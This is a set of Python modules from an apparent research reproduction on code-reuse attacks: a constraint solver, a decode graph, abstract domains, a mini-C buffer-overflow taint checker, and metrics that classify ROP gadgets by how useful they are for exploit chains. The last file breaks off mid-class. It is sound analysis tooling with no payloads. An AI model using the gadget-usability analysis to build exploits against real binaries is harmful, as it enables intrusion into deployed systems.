from __future__ import annotations

import enum
import random
from dataclasses import dataclass, field
from typing import Dict, Iterable, List, Optional, Sequence

from ..symex.expr import (
    BV,
    BVConst,
    BVSym,
    Bool,
    BoolConn,
    BoolConst,
    BoolExpr,
    Cmp,
    CmpOp,
    bool_and,
    bool_not,
    bv_eq,
    eval_bool,
    free_symbols,
    substitute,
)
from ..obs import metrics
from .bitblast import BitBlaster, BlastError
from .sat import SATBudgetExceeded, SATSolver


class Status(enum.Enum):
    SAT = "sat"
    UNSAT = "unsat"
    UNKNOWN = "unknown"


@dataclass
class SolverResult:
    status: Status
    model: Dict[str, int] = field(default_factory=dict)

    @property
    def is_sat(self) -> bool:
        return self.status is Status.SAT

    @property
    def is_unsat(self) -> bool:
        return self.status is Status.UNSAT


def _flatten_conjuncts(constraints: Iterable[Bool]) -> List[Bool]:
    out: List[Bool] = []
    stack = list(constraints)
    while stack:
        c = stack.pop()
        if isinstance(c, BoolExpr) and c.conn is BoolConn.AND:
            stack.extend(c.args)
        else:
            out.append(c)
    return out


def _propagate_equalities(conjuncts: List[Bool]) -> tuple[List[Bool], Dict[str, int], bool]:
    """Substitute ``sym == const`` bindings to a fixpoint.

    Returns (residual conjuncts, bindings, consistent?).
    """
    bindings: Dict[str, int] = {}
    work = list(conjuncts)
    changed = True
    while changed:
        changed = False
        residual: List[Bool] = []
        for c in work:
            if isinstance(c, BoolConst):
                if not c.value:
                    return [], bindings, False
                continue
            if isinstance(c, Cmp) and c.op is CmpOp.EQ:
                sym, const = None, None
                if isinstance(c.lhs, BVSym) and isinstance(c.rhs, BVConst):
                    sym, const = c.lhs.name, c.rhs.value
                elif isinstance(c.rhs, BVSym) and isinstance(c.lhs, BVConst):
                    sym, const = c.rhs.name, c.lhs.value
                if sym is not None:
                    if sym in bindings and bindings[sym] != const:
                        return [], bindings, False
                    if sym not in bindings:
                        bindings[sym] = const
                        changed = True
                    continue
            residual.append(c)
        if changed and bindings:
            subs = {name: BVConst(value) for name, value in bindings.items()}
            work = []
            for c in residual:
                simplified = substitute(c, subs)
                if isinstance(simplified, BoolConst) and not simplified.value:
                    return [], bindings, False
                work.append(simplified)
        else:
            work = residual
    final = [c for c in work if not (isinstance(c, BoolConst) and c.value)]
    return final, bindings, True


class Solver:
    """Stateless checker over conjunctions of :class:`Bool` constraints.

    "Stateless" semantically: every :meth:`check` answer depends only on
    the constraints.  That makes the instance-level memo sound — repeat
    queries (common during winnowing, where the same pre-condition pairs
    recur across buckets) return the first answer verbatim.
    """

    def __init__(
        self,
        *,
        max_conflicts: int = 200_000,
        sample_attempts: int = 24,
        rng_seed: int = 0x5EED,
        memoize: bool = True,
        memo_limit: int = 100_000,
    ) -> None:
        self.max_conflicts = max_conflicts
        self.sample_attempts = sample_attempts
        self._rng = random.Random(rng_seed)
        self.memoize = memoize
        self.memo_limit = memo_limit
        self._memo: Dict[tuple, SolverResult] = {}
        self.queries = 0
        self.memo_hits = 0
        self.sat_calls = 0  # checks that fell through to bit-blasting
        self.sat_conflicts = 0  # CDCL conflicts spent across those calls
        self.unknowns = 0  # budget/blast failures answered UNKNOWN

    # -- public API -----------------------------------------------------------

    def check(self, constraints: Sequence[Bool]) -> SolverResult:
        """Decide satisfiability of the conjunction of ``constraints``."""
        self.queries += 1
        key = None
        if self.memoize:
            try:
                key = tuple(constraints)
            except TypeError:  # pragma: no cover - defensive
                key = None
            if key is not None and key in self._memo:
                self.memo_hits += 1
                cached = self._memo[key]
                return SolverResult(cached.status, dict(cached.model))
        result = self._check_uncached(constraints)
        if key is not None:
            if len(self._memo) >= self.memo_limit:
                self._memo.clear()
            self._memo[key] = SolverResult(result.status, dict(result.model))
        return result

    @property
    def memo_hit_rate(self) -> float:
        return self.memo_hits / self.queries if self.queries else 0.0

    def _check_uncached(self, constraints: Sequence[Bool]) -> SolverResult:
        conjuncts = _flatten_conjuncts(constraints)
        residual, bindings, consistent = _propagate_equalities(conjuncts)
        if not consistent:
            return SolverResult(Status.UNSAT)
        if not residual:
            return SolverResult(Status.SAT, model=dict(bindings))
        symbols = sorted(set().union(*(free_symbols(c) for c in residual)))
        sampled = self._try_sampling(residual, symbols)
        if sampled is not None:
            sampled.update(bindings)
            return SolverResult(Status.SAT, model=sampled)
        return self._check_with_sat(residual, symbols, bindings)

    def prove(self, formula: Bool) -> bool:
        """True iff ``formula`` is valid (its negation is UNSAT)."""
        return self.check([bool_not(formula)]).is_unsat

    def equivalent(self, a: BV, b: BV, assuming: Optional[Sequence[Bool]] = None) -> bool:
        """True iff ``a == b`` under the (optional) assumptions."""
        if a == b:
            return True
        goal = bv_eq(a, b)
        if assuming:
            hypothesis = bool_and(*assuming)
            query = [hypothesis, bool_not(goal)]
        else:
            query = [bool_not(goal)]
        return self.check(query).is_unsat

    def satisfiable(self, constraints: Sequence[Bool]) -> bool:
        return self.check(constraints).is_sat

    # -- internals ---------------------------------------------------------------

    def _try_sampling(self, conjuncts: List[Bool], symbols: List[str]) -> Optional[Dict[str, int]]:
        if len(symbols) > 64:
            return None
        special = [0, 1, (1 << 64) - 1, 59, 0x600000]
        for attempt in range(self.sample_attempts):
            env = {}
            for s in symbols:
                if attempt < len(special):
                    env[s] = special[attempt]
                else:
                    env[s] = self._rng.getrandbits(64)
            try:
                if all(eval_bool(c, env) for c in conjuncts):
                    return env
            except Exception:  # pragma: no cover - defensive
                return None
        return None

    def _check_with_sat(
        self, conjuncts: List[Bool], symbols: List[str], bindings: Dict[str, int]
    ) -> SolverResult:
        self.sat_calls += 1
        registry = metrics()
        registry.counter("solver.sat_calls").inc()
        sat = SATSolver()
        blaster = BitBlaster(sat)
        try:
            for c in conjuncts:
                blaster.assert_bool(c)
        except BlastError:
            self.unknowns += 1
            registry.counter("solver.unknowns").inc()
            return SolverResult(Status.UNKNOWN)
        try:
            result = sat.solve(max_conflicts=self.max_conflicts)
        except SATBudgetExceeded as budget:
            self.unknowns += 1
            self.sat_conflicts += budget.conflicts
            registry.counter("solver.unknowns").inc()
            registry.histogram("solver.conflicts_per_check").observe(budget.conflicts)
            return SolverResult(Status.UNKNOWN)
        self.sat_conflicts += result.conflicts
        registry.histogram("solver.conflicts_per_check").observe(result.conflicts)
        if not result.satisfiable:
            return SolverResult(Status.UNSAT)
        model = {name: blaster.extract_value(name, result.model) for name in symbols}
        model.update(bindings)
        return SolverResult(Status.SAT, model=model)


#: A module-level default solver for casual callers.
DEFAULT_SOLVER = Solver()


def check(constraints: Sequence[Bool]) -> SolverResult:
    return DEFAULT_SOLVER.check(constraints)


def prove(formula: Bool) -> bool:
    return DEFAULT_SOLVER.prove(formula)
