"""Abstract-interpretation static analysis layer.

Two engines over one abstract-domain core (:mod:`.domain`):

* the **window dataflow analysis** (:mod:`.decode_graph`,
  :mod:`.window`, :mod:`.metrics`) — per-candidate
  :class:`~.window.WindowSummary` values used as a sound semantic
  prefilter in gadget extraction and for solver-free gadget-set quality
  metrics;
* the **mini-C overflow checker** (:mod:`.taint`, :mod:`.lint`) — the
  taint/interval analysis behind ``nfl lint`` that discovers the
  netperf ``break_args`` bug instead of hardcoding it.
"""

from .decode_graph import DecodeGraph, shared_decode_graph
from .domain import BOT, Const, InitReg, Interval, TOP, Tribool
from .lint import check_module_source, format_findings
from .metrics import GadgetSetMetrics, classify_summary, compute_metrics, format_metrics
from .taint import DEFAULT_SOURCES, ModuleChecker, OverflowFinding
from .window import WindowAnalyzer, WindowSummary

__all__ = [
    "BOT",
    "Const",
    "DecodeGraph",
    "DEFAULT_SOURCES",
    "GadgetSetMetrics",
    "InitReg",
    "Interval",
    "ModuleChecker",
    "OverflowFinding",
    "TOP",
    "Tribool",
    "WindowAnalyzer",
    "WindowSummary",
    "check_module_source",
    "classify_summary",
    "compute_metrics",
    "format_findings",
    "format_metrics",
    "shared_decode_graph",
]
