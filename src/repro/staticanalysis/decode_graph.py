"""Shared decode graph over a code window.

Gadget candidates overlap almost completely: every byte offset of the
text section starts a window, and two windows one byte apart share all
but one decode.  Both the syntactic scan and the semantic prefilter
therefore work over a :class:`DecodeGraph` that decodes each offset of
the section exactly once and precomputes reachability facts on the
induced control-flow graph:

* ``dist_to_transfer`` — for every offset, the minimum number of
  executed instructions (counting the terminator) of any walk that ends
  at an indirect control transfer, following the *symbolic executor's*
  successor rules (direct jumps/calls always followed, both sides of a
  conditional jump explored, ``hlt``/decode-failure dead).  A candidate
  whose distance exceeds the window budget provably yields only DEAD
  paths under symbolic execution — the sound cull used by the semantic
  prefilter (see ``window.py`` for the argument).
* ``ever_reaches`` — per syntactic-scan configuration, the set of
  offsets from which *some* walk under the scan's (config-dependent)
  successor rules reaches an indirect transfer at any depth.  Offsets
  outside this set make ``syntactic_scan`` return False regardless of
  its step cap, so the scan can be skipped outright.
"""

from __future__ import annotations

import functools
from collections import deque
from typing import Dict, FrozenSet, List, Optional, Tuple

from ..isa.encoding import DecodeError, decode
from ..isa.instructions import Instruction, Op

#: Instructions that end a gadget usefully (mirrors gadgets.extract).
INDIRECT_ENDS = frozenset({Op.RET, Op.JMP_R, Op.JMP_M, Op.CALL_R, Op.SYSCALL})

#: Sentinel distance for "no transfer reachable".
UNREACHABLE = -1


@functools.lru_cache(maxsize=8)
def shared_decode_graph(code: bytes, base_addr: int) -> "DecodeGraph":
    """A process-wide cache of :class:`DecodeGraph` per (code, base).

    Decoding a section is the dominant fixed cost shared by gadget
    extraction, the syntactic census and every baseline scanner; tools
    that analyse the same image byte-for-byte (the Fig. 1 / Table 1
    comparisons run three tools over each build) should decode it once.
    Graphs are immutable apart from memoised reachability tables, so
    sharing cannot change any caller's results.  The small LRU bound
    keeps at most a handful of text sections alive.
    """
    return DecodeGraph(code, base_addr)


class DecodeGraph:
    """Decode cache + reachability tables for one (code, base) view."""

    def __init__(self, code: bytes, base_addr: int) -> None:
        self.code = code
        self.base_addr = base_addr
        n = len(code)
        insns: List[Optional[Instruction]] = [None] * n
        for offset in range(n):
            try:
                insns[offset] = decode(code, offset, addr=base_addr + offset)
            except DecodeError:
                pass
        self.insns = insns
        self._dist: Optional[List[int]] = None
        self._ever_reaches: Dict[Tuple[bool, bool], FrozenSet[int]] = {}

    # -- decoding ---------------------------------------------------------

    def decode_at(self, offset: int) -> Optional[Instruction]:
        """The instruction decoded at ``offset``, or None."""
        if 0 <= offset < len(self.insns):
            return self.insns[offset]
        return None

    def decode_addr(self, addr: int) -> Optional[Instruction]:
        """Address-keyed variant of :meth:`decode_at`."""
        return self.decode_at(addr - self.base_addr)

    def addr_decode_cache(self) -> Dict[int, Optional[Instruction]]:
        """An address-keyed decode cache (SymbolicExecutor's format)."""
        return {self.base_addr + o: insn for o, insn in enumerate(self.insns)}

    # -- executor-rule successors -----------------------------------------

    def _executor_successors(self, offset: int) -> List[int]:
        """Offsets a symbolic path at ``offset`` may continue at.

        Over-approximates the executor: both sides of every conditional
        jump are listed even when the executor would statically resolve
        one away, and fork budgets are ignored.  Terminators and dead
        ends have no successors.
        """
        insn = self.insns[offset]
        if insn is None or insn.op in INDIRECT_ENDS or insn.op == Op.HLT:
            return []
        base = self.base_addr
        if insn.op in (Op.JMP_REL, Op.CALL_REL):
            return [insn.target - base]
        if insn.is_cond_jump():
            return [insn.target - base, insn.end - base]
        return [insn.end - base]

    # -- distance to an indirect transfer ---------------------------------

    @property
    def dist_to_transfer(self) -> List[int]:
        """Min executed-instruction count to an indirect transfer.

        ``dist[o] == 1`` means the instruction at ``o`` *is* a transfer;
        ``dist[o] == k`` means the shortest walk executes ``k``
        instructions ending at one; :data:`UNREACHABLE` means no walk
        exists.  Computed once by reverse BFS (unit edge weights).
        """
        if self._dist is None:
            n = len(self.insns)
            preds: List[List[int]] = [[] for _ in range(n)]
            queue: deque = deque()
            dist = [UNREACHABLE] * n
            for offset in range(n):
                insn = self.insns[offset]
                if insn is None:
                    continue
                if insn.op in INDIRECT_ENDS:
                    dist[offset] = 1
                    queue.append(offset)
                    continue
                for succ in self._executor_successors(offset):
                    if 0 <= succ < n:
                        preds[succ].append(offset)
            while queue:
                offset = queue.popleft()
                d = dist[offset]
                for pred in preds[offset]:
                    if dist[pred] == UNREACHABLE:
                        dist[pred] = d + 1
                        queue.append(pred)
            self._dist = dist
        return self._dist

    def reaches_transfer_within(self, offset: int, budget: int) -> bool:
        """Can *any* executor walk from ``offset`` end at an indirect
        transfer while executing at most ``budget`` instructions?

        False here is a proof that symbolic execution with
        ``max_insns == budget`` produces only DEAD paths from
        ``offset``: every symbolic path follows one of the walks this
        graph over-approximates, and each executed instruction
        (including merged direct jumps) consumes one unit of the
        executor's length budget.
        """
        if not 0 <= offset < len(self.insns):
            return False
        d = self.dist_to_transfer[offset]
        return d != UNREACHABLE and d <= budget

    # -- syntactic-scan reachability ---------------------------------------

    def ever_reaches(
        self, *, merge_direct_jumps: bool, include_conditional: bool
    ) -> FrozenSet[int]:
        """Offsets from which the syntactic scan's walk rules can reach
        an indirect transfer at *any* depth.

        The scan follows direct jumps/calls only when
        ``merge_direct_jumps`` and the taken side of a conditional jump
        only when ``include_conditional``; its bounded DFS explores a
        subset of these walks, so membership here is a necessary
        condition for ``syntactic_scan`` returning True.
        """
        key = (merge_direct_jumps, include_conditional)
        cached = self._ever_reaches.get(key)
        if cached is not None:
            return cached
        n = len(self.insns)
        preds: List[List[int]] = [[] for _ in range(n)]
        queue: deque = deque()
        reached = [False] * n
        base = self.base_addr
        for offset in range(n):
            insn = self.insns[offset]
            if insn is None:
                continue
            if insn.op in INDIRECT_ENDS:
                reached[offset] = True
                queue.append(offset)
                continue
            if insn.op == Op.HLT:
                continue
            succs: List[int] = []
            if insn.op in (Op.JMP_REL, Op.CALL_REL):
                if merge_direct_jumps:
                    succs.append(insn.target - base)
            elif insn.is_cond_jump():
                if include_conditional:
                    succs.append(insn.target - base)
                succs.append(insn.end - base)
            else:
                succs.append(insn.end - base)
            for succ in succs:
                if 0 <= succ < n:
                    preds[succ].append(offset)
        while queue:
            offset = queue.popleft()
            for pred in preds[offset]:
                if not reached[pred]:
                    reached[pred] = True
                    queue.append(pred)
        result = frozenset(o for o in range(n) if reached[o])
        self._ever_reaches[key] = result
        return result
