"""Abstract domains shared by both static-analysis engines.

Three small lattices cover everything the window analyser and the
mini-C checker need:

* :class:`AbsVal` — a flat constant domain over 64-bit words, extended
  with symbolic ``initial-register + constant`` values so that stack
  pointer deltas stay precise through ``push``/``pop``/``add rsp``
  sequences.  The crucial design rule is *mirroring*: an abstract value
  is ``Const(c)`` only when the symbolic executor's expression for the
  same computation folds to the literal ``BVConst(c)``.  That invariant
  is what makes branch pruning in the window analyser sound with
  respect to the symbolic pipeline (see ``window.py``).
* :class:`Tribool` — three-valued booleans for abstract flags.
* :class:`Interval` — unsigned intervals with widening, used by the
  mini-C overflow checker for array-index bounds.

Taint is represented as a plain ``frozenset`` of source tokens (empty =
untainted); joins are set unions, so no dedicated class is needed.
"""

from __future__ import annotations

import enum
from dataclasses import dataclass
from typing import Optional, Union

MASK64 = (1 << 64) - 1


def _signed(value: int) -> int:
    value &= MASK64
    return value - (1 << 64) if value >> 63 else value


# ---------------------------------------------------------------------------
# Flat constant / initial-register-offset domain
# ---------------------------------------------------------------------------


class _Top:
    """Unknown value (lattice top)."""

    __slots__ = ()

    def __repr__(self) -> str:
        return "TOP"


class _Bot:
    """Unreachable value (lattice bottom)."""

    __slots__ = ()

    def __repr__(self) -> str:
        return "BOT"


TOP = _Top()
BOT = _Bot()


@dataclass(frozen=True)
class Const:
    """A known 64-bit constant (always stored masked)."""

    value: int

    def __post_init__(self):
        object.__setattr__(self, "value", self.value & MASK64)

    def __repr__(self) -> str:
        return f"Const({self.value:#x})"


@dataclass(frozen=True)
class InitReg:
    """``initial value of register `reg` + offset`` (e.g. rsp0 + 8).

    ``reg`` is kept as a plain int (the register number) so this module
    stays independent of the ISA package.
    """

    reg: int
    offset: int = 0

    def __post_init__(self):
        object.__setattr__(self, "offset", _signed(self.offset))

    def __repr__(self) -> str:
        return f"InitReg(r{self.reg}{self.offset:+d})"


AbsVal = Union[_Top, _Bot, Const, InitReg]


def join(a: AbsVal, b: AbsVal) -> AbsVal:
    """Least upper bound in the flat lattice."""
    if a is BOT:
        return b
    if b is BOT:
        return a
    if a == b:
        return a
    return TOP


def is_const(v: AbsVal) -> bool:
    return isinstance(v, Const)


def const_value(v: AbsVal) -> Optional[int]:
    return v.value if isinstance(v, Const) else None


def abs_add(a: AbsVal, b: AbsVal) -> AbsVal:
    if isinstance(a, Const) and isinstance(b, Const):
        return Const(a.value + b.value)
    if isinstance(a, InitReg) and isinstance(b, Const):
        return InitReg(a.reg, a.offset + b.value)
    if isinstance(a, Const) and isinstance(b, InitReg):
        return InitReg(b.reg, b.offset + a.value)
    return TOP


def abs_sub(a: AbsVal, b: AbsVal) -> AbsVal:
    if isinstance(a, Const) and isinstance(b, Const):
        return Const(a.value - b.value)
    if isinstance(a, InitReg) and isinstance(b, Const):
        return InitReg(a.reg, a.offset - b.value)
    # x - x folds to 0 in the symbolic expression language (structural
    # equality), so mirroring it here preserves the Const invariant.
    if a == b and not isinstance(a, _Top):
        return Const(0)
    return TOP


def abs_binop(op: str, a: AbsVal, b: AbsVal) -> AbsVal:
    """Mirror of the executor's ALU ops over the flat domain.

    Only folds that ``repro.symex.expr`` performs syntactically are
    reproduced; everything else is TOP.
    """
    if op == "add":
        return abs_add(a, b)
    if op == "sub":
        return abs_sub(a, b)
    if op == "xor" and a == b and not isinstance(a, _Top) and not isinstance(a, _Bot):
        return Const(0)  # bv_xor(e, e) -> 0
    if not (isinstance(a, Const) and isinstance(b, Const)):
        # and/or of structurally equal expressions fold to the value
        # itself — the abstract value is unchanged, so return it.
        if op in ("and", "or") and a == b and isinstance(a, InitReg):
            return a
        return TOP
    x, y = a.value, b.value
    if op == "mul":
        return Const(x * y)
    if op == "and":
        return Const(x & y)
    if op == "or":
        return Const(x | y)
    if op == "xor":
        return Const(x ^ y)
    if op == "udiv":
        return Const(x // y) if y else TOP
    if op == "umod":
        return Const(x % y) if y else TOP
    raise AssertionError(f"unhandled abstract binop {op}")


def abs_shift(op: str, a: AbsVal, amount: int) -> AbsVal:
    amount &= 0x3F
    if amount == 0:
        return a
    if not isinstance(a, Const):
        return TOP
    if op == "shl":
        return Const(a.value << amount)
    if op == "shr":
        return Const(a.value >> amount)
    if op == "sar":
        return Const(_signed(a.value) >> amount)
    raise AssertionError(f"unhandled abstract shift {op}")


def abs_unop(op: str, a: AbsVal) -> AbsVal:
    if not isinstance(a, Const):
        return TOP
    if op == "not":
        return Const(~a.value)
    if op == "neg":
        return Const(-a.value)
    raise AssertionError(f"unhandled abstract unop {op}")


# ---------------------------------------------------------------------------
# Three-valued booleans (abstract flags / branch conditions)
# ---------------------------------------------------------------------------


class Tribool(enum.Enum):
    FALSE = 0
    TRUE = 1
    UNKNOWN = 2

    @classmethod
    def of(cls, value: bool) -> "Tribool":
        return cls.TRUE if value else cls.FALSE

    @property
    def definite(self) -> bool:
        return self is not Tribool.UNKNOWN

    def __invert__(self) -> "Tribool":
        if self is Tribool.UNKNOWN:
            return self
        return Tribool.of(self is Tribool.FALSE)

    def __and__(self, other: "Tribool") -> "Tribool":
        if self is Tribool.FALSE or other is Tribool.FALSE:
            return Tribool.FALSE
        if self is Tribool.TRUE and other is Tribool.TRUE:
            return Tribool.TRUE
        return Tribool.UNKNOWN

    def __or__(self, other: "Tribool") -> "Tribool":
        if self is Tribool.TRUE or other is Tribool.TRUE:
            return Tribool.TRUE
        if self is Tribool.FALSE and other is Tribool.FALSE:
            return Tribool.FALSE
        return Tribool.UNKNOWN

    def __xor__(self, other: "Tribool") -> "Tribool":
        if not self.definite or not other.definite:
            return Tribool.UNKNOWN
        return Tribool.of(self is not other)


UNKNOWN = Tribool.UNKNOWN


def tribool_join(a: Tribool, b: Tribool) -> Tribool:
    return a if a is b else Tribool.UNKNOWN


# ---------------------------------------------------------------------------
# Unsigned intervals with widening (mini-C checker)
# ---------------------------------------------------------------------------

#: Sentinel for an unbounded upper limit.
INF = float("inf")


@dataclass(frozen=True)
class Interval:
    """An unsigned interval ``[lo, hi]``; ``hi`` may be :data:`INF`."""

    lo: int = 0
    hi: Union[int, float] = INF

    @classmethod
    def const(cls, value: int) -> "Interval":
        return cls(value, value)

    @classmethod
    def top(cls) -> "Interval":
        return cls(0, INF)

    @property
    def is_bounded(self) -> bool:
        return self.hi is not INF

    def join(self, other: "Interval") -> "Interval":
        return Interval(min(self.lo, other.lo), max(self.hi, other.hi))

    def widen(self, other: "Interval") -> "Interval":
        """Standard widening: escape growing bounds to ±extremes."""
        lo = self.lo if other.lo >= self.lo else 0
        hi = self.hi if other.hi <= self.hi else INF
        return Interval(lo, hi)

    def add(self, other: "Interval") -> "Interval":
        hi = INF if (self.hi is INF or other.hi is INF) else self.hi + other.hi
        return Interval(self.lo + other.lo, hi)

    def sub_const(self, value: int) -> "Interval":
        # Unsigned subtraction may wrap; only the all-above case is safe.
        if self.lo >= value:
            hi = INF if self.hi is INF else self.hi - value
            return Interval(self.lo - value, hi)
        return Interval.top()

    def scale(self, factor: int) -> "Interval":
        if factor == 1:
            return self
        hi = INF if self.hi is INF else self.hi * factor
        return Interval(self.lo * factor, hi)

    def clamp_below(self, bound: Union[int, float]) -> "Interval":
        """Refine with the constraint ``value < bound`` (exclusive)."""
        if bound is INF:
            return self
        return Interval(self.lo, min(self.hi, bound - 1))

    def clamp_below_eq(self, bound: Union[int, float]) -> "Interval":
        if bound is INF:
            return self
        return Interval(self.lo, min(self.hi, bound))

    def clamp_above_eq(self, bound: int) -> "Interval":
        return Interval(max(self.lo, bound), self.hi)

    def __str__(self) -> str:
        hi = "inf" if self.hi is INF else str(self.hi)
        return f"[{self.lo}, {hi}]"
