"""`nfl lint` driver: run the overflow checker on mini-C source.

Thin front end over :mod:`.taint`: parse, lower, check, format.  Kept
separate so `bench/netperf.py` and the CLI share one entry point.
"""

from __future__ import annotations

from typing import Iterable, List

from ..compiler.lowering import lower_program
from ..lang import parse
from .taint import DEFAULT_SOURCES, ModuleChecker, OverflowFinding


def check_module_source(
    source: str, *, sources: Iterable[str] = DEFAULT_SOURCES
) -> List[OverflowFinding]:
    """Parse + lower mini-C ``source`` and return overflow findings."""
    module = lower_program(parse(source))
    checker = ModuleChecker(module, sources=sources)
    findings = checker.check()
    return sorted(findings, key=lambda f: (f.function, f.buffer, f.callee or ""))


def format_findings(findings: List[OverflowFinding]) -> str:
    """Human-readable report, one block per finding."""
    if not findings:
        return "no overflow findings"
    lines = [f"{len(findings)} overflow finding(s):"]
    for i, finding in enumerate(findings, 1):
        lines.append(f"  [{i}] {finding.describe()}")
    return "\n".join(lines)
