"""Gadget-set quality metrics in the style of Brown et al.

"Not So Fast" argues that raw gadget counts (Fig. 1 of our source
paper) say little about *usability*, and scores gadget sets by their
functional diversity and by the availability of a few special-purpose
gadget kinds instead.  This module computes the analogous metrics over
:class:`~.window.WindowSummary` values — i.e. from the static dataflow
summaries alone, without symbolic execution — so a full-binary
"semantic census" stays cheap enough to run inside benchmarks.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, FrozenSet, Iterable

from ..isa.registers import Reg
from ..symex.executor import EndKind
from .domain import TOP
from .window import WindowSummary

#: Functional gadget classes, in reporting order.
GADGET_CLASSES = (
    "ret",  # ends with a plain ret
    "jop",  # ends with jmp reg / jmp [mem]
    "cop",  # ends with call reg
    "syscall",  # reaches a syscall
    "reg_load",  # pops payload data into a non-rsp register
    "reg_move",  # clobbers a non-rsp register without consuming payload
    "stack_write",  # writes a known rsp-relative slot
    "mem_write",  # writes through a computed (non-stack) pointer
    "stack_pivot",  # leaves rsp at a non-constant offset
    "branch",  # contains a resolvable conditional jump
)

_JOP_ENDS = frozenset({EndKind.JMP_REG, EndKind.JMP_MEM})


def classify_summary(summary: WindowSummary) -> FrozenSet[str]:
    """The functional classes a window may provide."""
    if not summary.reaches_transfer:
        return frozenset()
    classes = set()
    if EndKind.RET in summary.ends:
        classes.add("ret")
    if summary.ends & _JOP_ENDS:
        classes.add("jop")
    if EndKind.CALL_REG in summary.ends:
        classes.add("cop")
    if EndKind.SYSCALL in summary.ends:
        classes.add("syscall")
    nonsp = frozenset(r for r in summary.clobbered if r is not Reg.RSP)
    delta = summary.known_stack_delta
    if nonsp and delta is not None and delta > 8:
        classes.add("reg_load")
    elif nonsp:
        classes.add("reg_move")
    if summary.stack_write_offsets:
        classes.add("stack_write")
    if summary.has_wild_writes:
        classes.add("mem_write")
    if summary.stack_delta is TOP:
        classes.add("stack_pivot")
    if summary.conditional:
        classes.add("branch")
    return frozenset(classes)


@dataclass
class GadgetSetMetrics:
    """Aggregate quality metrics for one binary's gadget set."""

    total_windows: int = 0
    usable_windows: int = 0
    class_counts: Dict[str, int] = field(default_factory=dict)

    @property
    def functional_diversity(self) -> float:
        """Fraction of functional classes represented at least once."""
        present = sum(1 for c in GADGET_CLASSES if self.class_counts.get(c, 0) > 0)
        return present / len(GADGET_CLASSES)

    @property
    def special_purpose_counts(self) -> Dict[str, int]:
        """Brown-style special-purpose availability: the gadget kinds a
        practical chain cannot do without."""
        return {
            c: self.class_counts.get(c, 0)
            for c in ("syscall", "stack_pivot", "mem_write", "reg_load")
        }


def compute_metrics(summaries: Iterable[WindowSummary]) -> GadgetSetMetrics:
    metrics = GadgetSetMetrics(class_counts={c: 0 for c in GADGET_CLASSES})
    for summary in summaries:
        metrics.total_windows += 1
        classes = classify_summary(summary)
        if classes:
            metrics.usable_windows += 1
        for c in classes:
            metrics.class_counts[c] += 1
    return metrics


def format_metrics(metrics: GadgetSetMetrics) -> str:
    """A small fixed-width table for benchmark results / the CLI."""
    lines = [
        f"windows scanned:       {metrics.total_windows}",
        f"semantically usable:   {metrics.usable_windows}",
        f"functional diversity:  {metrics.functional_diversity:.2f}",
    ]
    for c in GADGET_CLASSES:
        lines.append(f"  {c:<13}{metrics.class_counts.get(c, 0)}")
    return "\n".join(lines)
