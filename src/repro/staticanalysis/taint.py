"""Taint + interval analysis over mini-C IR: the overflow checker.

The checker walks an :class:`~repro.compiler.ir.IRModule` looking for
the CWE-121 shape the paper's netperf case study exploits: a copy loop
that moves attacker-controlled bytes into a fixed-size buffer with no
bound on the write offset.

Per-temp abstract values (:class:`AVal`) combine three facts:

* **taint** — a set of source tokens.  Module-level sources are global
  variables whose names match the configured attacker-controlled
  prefixes (``optarg``/``argv``/...); inside a function, parameter
  values and the memory behind parameter pointers carry placeholder
  tokens (``param:p`` / ``*param:p``) that call sites later translate.
* **interval** — an unsigned range for index arithmetic, with widening
  at loop joins and refinement on ``Branch`` comparisons (so a write
  guarded by ``i < 64`` into a 64-byte buffer stays clean).
* **points-to** — which local array / global / parameter pointer the
  value may address, with an offset interval.

Functions are summarised bottom-up over the call graph: writes through
parameter pointers become :class:`ParamWrite` entries that call sites
replay against their actual arguments, which is how the overflow inside
``break_args`` surfaces as findings on the caller's 16-byte stack
buffers — no function names or addresses are special-cased anywhere.
Recursive call cycles are handled conservatively (no summary: argument
taint flows to the result, no writes are replayed).
"""

from __future__ import annotations

from dataclasses import dataclass, field, replace
from typing import Dict, FrozenSet, Iterable, List, Optional, Set, Tuple

from ..compiler import ir
from .domain import INF, Interval

#: Default attacker-controlled input name prefixes.  A global variable
#: whose name starts with one of these is a taint source (this also
#: covers companion length scalars such as ``optarg_len``).
DEFAULT_SOURCES = ("optarg", "argv", "recv", "input", "stdin")

#: How many times a block is re-analysed with plain joins before the
#: analysis switches to widening.
_WIDEN_AFTER = 2

_PARAM_VALUE = "param:"
_PARAM_CONTENT = "*param:"

Taint = FrozenSet[str]
_NO_TAINT: Taint = frozenset()

#: A points-to target: (kind, name, offset interval) with kind one of
#: "local" | "global" | "param".
Region = Tuple[str, str, Interval]


def _merge_pts(
    a: FrozenSet[Region], b: FrozenSet[Region], widen: bool
) -> FrozenSet[Region]:
    """Union two points-to sets, merging same-target regions' offset
    intervals so loops over a moving pointer converge."""
    if a == b:
        return a
    by_target: Dict[Tuple[str, str], Interval] = {}
    for kind, name, off in a:
        key = (kind, name)
        old = by_target.get(key)
        by_target[key] = off if old is None else old.join(off)
    for kind, name, off in b:
        key = (kind, name)
        old = by_target.get(key)
        if old is None:
            by_target[key] = off
        else:
            by_target[key] = old.widen(off) if widen else old.join(off)
    return frozenset((kind, name, off) for (kind, name), off in by_target.items())


@dataclass(frozen=True)
class AVal:
    """Abstract value of one temp: taint, range, and points-to set."""

    taint: Taint = _NO_TAINT
    interval: Interval = Interval.top()
    pts: FrozenSet[Region] = frozenset()

    def join(self, other: "AVal") -> "AVal":
        return AVal(
            taint=self.taint | other.taint,
            interval=self.interval.join(other.interval),
            pts=_merge_pts(self.pts, other.pts, widen=False),
        )

    def widen(self, other: "AVal") -> "AVal":
        return AVal(
            taint=self.taint | other.taint,
            interval=self.interval.widen(other.interval),
            pts=_merge_pts(self.pts, other.pts, widen=True),
        )


_UNKNOWN = AVal()


@dataclass(frozen=True)
class ParamWrite:
    """Summary entry: a function writes through parameter ``param`` at
    ``offset`` (relative to the pointer) with the given taints."""

    param: str
    offset: Interval
    width: int
    value_taint: Taint
    addr_taint: Taint


@dataclass
class FunctionSummary:
    """Bottom-up interprocedural summary of one IR function."""

    name: str
    param_writes: List[ParamWrite] = field(default_factory=list)
    ret_taint: Taint = _NO_TAINT


@dataclass(frozen=True)
class OverflowFinding:
    """One potential unchecked-copy stack/global buffer overflow."""

    function: str  # function the overflowed buffer belongs to
    buffer: str  # region name (e.g. "arg1.1" for a local array)
    buffer_kind: str  # "local" | "global"
    buffer_size: int
    width: int  # width of the out-of-bounds store
    offset: Interval  # write offset range relative to the buffer
    sources: Taint  # taint tokens that reach the write
